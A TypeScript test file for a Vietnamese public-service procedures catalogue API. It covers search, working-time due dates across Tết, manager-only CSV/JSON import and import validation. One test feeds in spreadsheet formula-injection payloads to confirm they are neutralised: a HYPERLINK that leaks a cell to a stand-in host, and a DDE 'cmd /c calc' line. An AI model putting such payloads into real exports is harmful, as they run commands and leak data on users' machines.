// The procedures guide over HTTP on the demo hall, the due date in working time, and a
// manager's import of a catalogue in JSON or CSV.

import { afterEach, describe, expect, it } from 'vitest';
import { localInstant } from '../../server/domain/calendar/working-time.js';
import { inject, LAN_ADDRESS, prepareCallers } from '../helpers/callers.js';
import { startTestHub, tempDataDir, type TestHub } from '../helpers/test-hub.js';
import { demoHallWith } from '../helpers/hall-files.js';

let hub: TestHub | null = null;
afterEach(async () => {
  await hub?.stop(true);
  hub = null;
});

const anyone = { address: LAN_ADDRESS, token: null };

describe('the procedures guide', () => {
  it('searches as citizens type, and tells papers, fee, time and counters', async () => {
    hub = await startTestHub();
    const found = await inject(hub, anyone, 'GET', `/api/procedures?q=${encodeURIComponent('cap giay phep xay dung')}`);
    expect(found.status).toBe(200);
    expect(found.body[0]).toMatchObject({ code: 'XD.01', name: { vi: 'Cấp giấy phép xây dựng nhà ở riêng lẻ' }, counters: [4, 5] });
    const one = await inject(hub, anyone, 'GET', '/api/procedures/HT.01');
    expect(one.body).toMatchObject({
      serviceId: 'HT',
      papers: expect.arrayContaining([{ name: 'Giấy chứng sinh hoặc văn bản thay Giấy chứng sinh', kind: 'original', count: 1 }]),
      processingWords: { vi: 'Trong ngày (nhận sau 15:00: ngày làm việc tiếp theo)' },
      counters: [1, 2, 12],
    });
    const missing = await inject(hub, anyone, 'GET', '/api/procedures/ZZ.99');
    expect(missing.status).toBe(404);
    expect(missing.body.message).toBe('Không có thủ tục mã "ZZ.99" trong danh mục của bộ phận một cửa.');
  });

  it('gives the due date in working time, across Tết', async () => {
    hub = await startTestHub();
    // Received Friday 13/2/2026 at 15:00: Tết is from 14 to 22/2.
    const at = localInstant('2026-02-13', 15 * 60, 'Asia/Ho_Chi_Minh');
    // Three working days (Civil Code art. 147-148): the day of reception does not count; the
    // working days after it are 23, 24 and 25/2, and the limit runs to the end of 25/2.
    const residence = await inject(hub, anyone, 'GET', `/api/procedures/CA.02/due?at=${at}`);
    expect(residence.body).toMatchObject({ dueDay: '2026-02-25', dueTime: null, dueAt: localInstant('2026-02-26', 0, 'Asia/Ho_Chi_Minh') });
    // Same day, received at 15:00 sharp: not after the cut-off, so that very day.
    const birth = await inject(hub, anyone, 'GET', `/api/procedures/HT.01/due?at=${at}`);
    expect(birth.body).toMatchObject({ dueDay: '2026-02-13', dueTime: null });
    // One minute later it is after the cut-off: the next working day, Monday 23/2 after Tết.
    const late = await inject(hub, anyone, 'GET', `/api/procedures/HT.01/due?at=${at + 60_000}`);
    expect(late.body).toMatchObject({ dueDay: '2026-02-23', dueTime: null });
  });

  it('lets a manager replace the catalogue with CSV or JSON, and keeps it across a restart', async () => {
    const dataDir = tempDataDir();
    hub = await startTestHub({ dataDir });
    const c = await prepareCallers(hub);
    const csv = [
      'code,name,serviceId,field,processing,fee,resultAt,papers',
      'HT.01,Đăng ký khai sinh,HT,Hộ tịch,same-day,Miễn lệ phí,Bộ phận Một cửa,Tờ khai [original]; Giấy chứng sinh [original]',
      'CA.01,Đăng ký thường trú,CA,Cư trú,7d,20.000 đồng,Công an phường,Tờ khai CT01 [original]',
    ].join('\n');
    const byClerk = await inject(hub, c.clerk1, 'PUT', '/api/procedures', csv, { 'content-type': 'text/csv' });
    expect(byClerk.status).toBe(403);
    const imported = await inject(hub, c.manager, 'PUT', '/api/procedures', csv, { 'content-type': 'text/csv' });
    expect(imported.body).toEqual({ count: 2 });

    const unknownService = await inject(hub, c.manager, 'PUT', '/api/procedures', csv.replace(',CA,', ',NOPE,'), { 'content-type': 'text/csv' });
    expect(unknownService.status).toBe(422);
    expect(unknownService.body.message).toContain('NOPE');
    const broken = await inject(hub, c.manager, 'PUT', '/api/procedures', [{ code: 'X' }]);
    expect(broken.status).toBe(422);
    expect(broken.body.messageEn).toMatch(/^The procedures catalogue cannot be used: entry 1/);
    // A refused import leaves the catalogue as it was.
    expect((await inject(hub, anyone, 'GET', '/api/procedures')).body).toHaveLength(2);

    await hub.stop();
    hub = await startTestHub({ dataDir });
    expect((await inject(hub, anyone, 'GET', '/api/procedures')).body.map((p: { code: string }) => p.code)).toEqual(['HT.01', 'CA.01']);
  });

  it('refuses a legal time beyond any sane limit, so receiving and the due date never fail on it', async () => {
    hub = await startTestHub();
    const c = await prepareCallers(hub);
    const header = 'code,name,serviceId,field,processing,fee,resultAt,papers';
    const row = (processing: string) => `HT.01,Đăng ký khai sinh,HT,Hộ tịch,${processing},Miễn lệ phí,Bộ phận Một cửa,Tờ khai [original]`;
    for (const processing of ['999d', '9999h', '366d', '2001h', '0d']) {
      const csv = await inject(hub, c.manager, 'PUT', '/api/procedures', `${header}\n${row(processing)}`, { 'content-type': 'text/csv' });
      expect(csv.status).toBe(422);
      expect(csv.body.messageEn).toContain(`row 2: processing "${processing}" must be more than 0 and at most`);
      expect(csv.body.message).toMatch(/^Danh mục thủ tục không dùng được: /);
    }
    const json = await inject(hub, c.manager, 'PUT', '/api/procedures', [
      { code: 'HT.01', name: 'Đăng ký khai sinh', serviceId: 'HT', field: 'Hộ tịch', papers: [], fee: 'Miễn lệ phí', processing: '9999h', resultAt: 'Một cửa' },
    ]);
    expect(json.status).toBe(422);
    expect(json.body.messageEn).toContain('entry 1: processing "9999h" must be more than 0 and at most 2000 working hours');
    // The limits themselves are accepted, and the due date is answered for them.
    const atLimit = await inject(hub, c.manager, 'PUT', '/api/procedures', `${header}\n${row('365d')}\n${row('2000h').replace('HT.01', 'HT.02')}`, { 'content-type': 'text/csv' });
    expect(atLimit.body).toEqual({ count: 2 });
    for (const code of ['HT.01', 'HT.02']) {
      const due = await inject(hub, anyone, 'GET', `/api/procedures/${code}/due`);
      expect(due.status).toBe(200);
      expect(due.body.dueAt).toBeGreaterThan(due.body.receivedAt);
    }
  });

  it('refuses an empty catalogue, which would remove every procedure', async () => {
    hub = await startTestHub();
    const c = await prepareCallers(hub);
    const before = (await inject(hub, anyone, 'GET', '/api/procedures')).body.length;
    expect(before).toBeGreaterThanOrEqual(25);
    const emptyList = await inject(hub, c.manager, 'PUT', '/api/procedures', []);
    expect(emptyList.status).toBe(422);
    expect(emptyList.body.messageEn).toContain('the catalogue is empty');
    for (const csv of ['code,name,serviceId,field,processing,fee,resultAt,papers', 'code,name,serviceId,field,processing,fee,resultAt,papers\n\n', '']) {
      const emptyCsv = await inject(hub, c.manager, 'PUT', '/api/procedures', csv, { 'content-type': 'text/csv' });
      expect(emptyCsv.status).toBe(422);
      expect(emptyCsv.body.messageEn).toContain('the catalogue is empty');
    }
    expect((await inject(hub, anyone, 'GET', '/api/procedures')).body).toHaveLength(before);
  });

  it('stores catalogue text that starts like a spreadsheet formula as plain text', async () => {
    hub = await startTestHub();
    const c = await prepareCallers(hub);
    const csv = [
      'code,name,serviceId,field,processing,fee,resultAt,papers,legalBasis',
      'HT.01,"=HYPERLINK(""http://x.example/?""&A1,""Bấm"")",HT,+Hộ tịch,3d,-1+1,@SUM(A1),"=cmd|\' /c calc\'!A0 [original]; Tờ khai [copy]",\tLuật Hộ tịch',
    ].join('\n');
    const imported = await inject(hub, c.manager, 'PUT', '/api/procedures', csv, { 'content-type': 'text/csv' });
    expect(imported.body).toEqual({ count: 1 });
    const one = await inject(hub, anyone, 'GET', '/api/procedures/HT.01');
    expect(one.body).toMatchObject({
      name: { vi: `'=HYPERLINK("http://x.example/?"&A1,"Bấm")` },
      field: "'+Hộ tịch",
      fee: { text: "'-1+1" },
      resultAt: "'@SUM(A1)",
      papers: [
        { name: "'=cmd|' /c calc'!A0", kind: 'original' },
        { name: 'Tờ khai', kind: 'copy' },
      ],
    });
    // Every text the guide gives starts with something a spreadsheet shows as text.
    const texts = JSON.stringify(one.body)
      .match(/"(?:[^"\\]|\\.)*"/g)!
      .map((t) => JSON.parse(t) as string);
    expect(texts.filter((t) => /^[=+\-@\t\r]/.test(t))).toEqual([]);
  });

  it('reads the catalogue a hall file names, and refuses a hall whose catalogue cannot be used', async () => {
    const dataDir = tempDataDir();
    const file = demoHallWith(
      dataDir,
      (hall) =>
        (hall.hall.workingHours = [
          { start: '07:30', end: '11:30' },
          { start: '13:00', end: '17:00' },
        ]),
    );
    hub = await startTestHub({ dataDir, hallFile: file });
    expect((await inject(hub, anyone, 'GET', '/api/procedures')).body.length).toBeGreaterThanOrEqual(25);
    const at = localInstant('2026-11-24', 12 * 60 + 15, 'Asia/Ho_Chi_Minh');
    // Received at lunch on Tuesday: three working days after it, Wednesday to Friday, whatever
    // the minute of reception (Civil Code art. 148); counting starts at this hall's 13:00.
    const due = (await inject(hub, anyone, 'GET', `/api/procedures/KD.01/due?at=${at}`)).body;
    expect(due).toMatchObject({ dueDay: '2026-11-27', dueTime: null, startsAt: localInstant('2026-11-24', 13 * 60, 'Asia/Ho_Chi_Minh') });
    await hub.stop(true);
    hub = null;
    const bad = demoHallWith(tempDataDir(), (hall) => (hall.catalog = 'no-such-file.csv'));
    await expect(startTestHub({ hallFile: bad })).rejects.toThrow(/no-such-file\.csv/);
  });
});
